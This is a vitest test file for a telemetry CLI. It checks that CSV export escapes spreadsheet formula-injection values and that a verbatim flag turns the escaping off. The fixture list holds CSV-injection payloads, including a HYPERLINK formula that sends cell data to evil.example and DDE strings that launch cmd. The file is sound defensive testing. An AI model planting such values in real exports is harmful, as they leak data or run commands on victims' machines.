import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { type CliInProcessOptions, runCliInProcess } from '../../support/cli-child.js';
import { keyAt, writeAtKey } from '../../support/reader-fixtures.js';
import { signalKeyAt } from '../../support/signal-fixtures.js';
import { makeTempDir, removeDir } from '../../support/temp-dir.js';
import { CLI_T0 } from '../../support/time.js';

/**
 * Texts a spreadsheet opening the CSV would take for a formula (OWASP's CSV injection list:
 * =, +, -, @, tab, carriage return; and a line feed), and texts it would not.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '-Infinity',
];
const KEPT = ['-5', '+1.5e3', '-.25', 'a=1', 'GET /', "'=already quoted", ''];

let root: string;
const T0 = BigInt(CLI_T0.getTime()) * 1_000_000n;
const run = (args: string[], options: CliInProcessOptions = {}) =>
  runCliInProcess([...args, '--dir', 'd', '--prefix', 'p'], { cwd: root, ...options });

/** The CSV's rows as Python's csv module reads them (an independent RFC 4180 reader). */
function pythonRows(csv: string): string[][] {
  const read = spawnSync(
    'python3',
    [
      '-c',
      'import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))',
    ],
    { input: csv, encoding: 'utf8' },
  );
  if (read.status !== 0) throw new Error(`python3: ${read.stderr}`);
  return JSON.parse(read.stdout) as string[][];
}

/** The cells of one column, by its header. */
function column(rows: string[][], name: string): string[] {
  const [header = [], ...body] = rows;
  const i = header.indexOf(name);
  expect(i).toBeGreaterThanOrEqual(0);
  return body.map((row) => row[i] ?? '');
}

beforeAll(async () => {
  root = await makeTempDir('otel-s3-cli-csv-formulas-');
  const dir = join(root, 'd');
  const resource = { attributes: [{ key: 'service.name', value: { stringValue: 'svc' } }] };
  const json = (body: object) => Buffer.from(`${JSON.stringify(body)}\n`);
  const texts = [...FORMULAS, ...KEPT];
  const spans = texts.map((name, i) => ({
    traceId: 'c'.repeat(32),
    spanId: (i + 1).toString(16).padStart(16, '0'),
    name,
    startTimeUnixNano: String(T0 + BigInt(i)),
    endTimeUnixNano: String(T0 + BigInt(i) + 1_000_000n),
  }));
  const records = texts.map((text, i) => ({
    timeUnixNano: String(T0 + BigInt(i)),
    body: { stringValue: text },
  }));
  const metrics = texts.map((name, i) => ({
    name: name === '' ? 'empty' : name,
    gauge: { dataPoints: [{ timeUnixNano: String(T0 + BigInt(i)), asDouble: -1.5 }] },
  }));
  await writeAtKey(
    dir,
    signalKeyAt('traces', 'otlp-json', 'p', CLI_T0, '.json'),
    json({ resourceSpans: [{ resource, scopeSpans: [{ spans }] }] }),
  );
  await writeAtKey(
    dir,
    signalKeyAt('logs', 'otlp-json', 'p', CLI_T0, '.json'),
    json({ resourceLogs: [{ resource, scopeLogs: [{ logRecords: records }] }] }),
  );
  await writeAtKey(
    dir,
    keyAt('p', CLI_T0, '.json'),
    json({ resourceMetrics: [{ resource, scopeMetrics: [{ metrics }] }] }),
  );
  return () => removeDir(root);
});

const NOTE = (n: number) =>
  `otel-s3: ${n} CSV fields began with =, +, -, @, a tab or a line break and were written with a leading ' (so a spreadsheet shows them as text, not as formulas); --csv-verbatim writes them as they are\n`;

describe('--format csv and formulas (CSV injection)', () => {
  const cases = [
    { command: 'spans', column: 'name', texts: [...FORMULAS, ...KEPT] },
    { command: 'logs', column: 'body', texts: [...FORMULAS, ...KEPT] },
    { command: 'points', column: 'metric', texts: [...FORMULAS, ...KEPT.slice(0, -1), 'empty'] },
  ];

  for (const c of cases) {
    test(`${c.command}: a field a spreadsheet would run gets a leading '; numbers and other text are kept`, async () => {
      const { code, stdout, stderr } = await run([c.command, '--format', 'csv']);
      expect(code).toBe(0);
      const expected = c.texts.map((t) => (FORMULAS.includes(t) ? `'${t}` : t));
      expect(column(pythonRows(stdout), c.column)).toEqual(expected);
      expect(stderr).toBe(NOTE(FORMULAS.length));
    });

    test(`${c.command} --csv-verbatim: every field exactly as stored, no note`, async () => {
      const { code, stdout, stderr } = await run([c.command, '--format', 'csv', '--csv-verbatim']);
      expect(code).toBe(0);
      expect(column(pythonRows(stdout), c.column)).toEqual(c.texts);
      expect(stderr).toBe('');
    });
  }

  test('numbers the row holds are never prefixed (a gauge of -1.5)', async () => {
    const { stdout } = await run(['points', '--format', 'csv']);
    expect(new Set(column(pythonRows(stdout), 'value'))).toEqual(new Set(['-1.5']));
  });

  test('--csv-verbatim without --format csv is a usage error naming both', async () => {
    const { code, stderr } = await run(['spans', '--format', 'jsonl', '--csv-verbatim']);
    expect(code).toBe(2);
    expect(stderr).toBe(
      'otel-s3: --csv-verbatim applies to --format csv only, not --format jsonl\n',
    );
  });
});
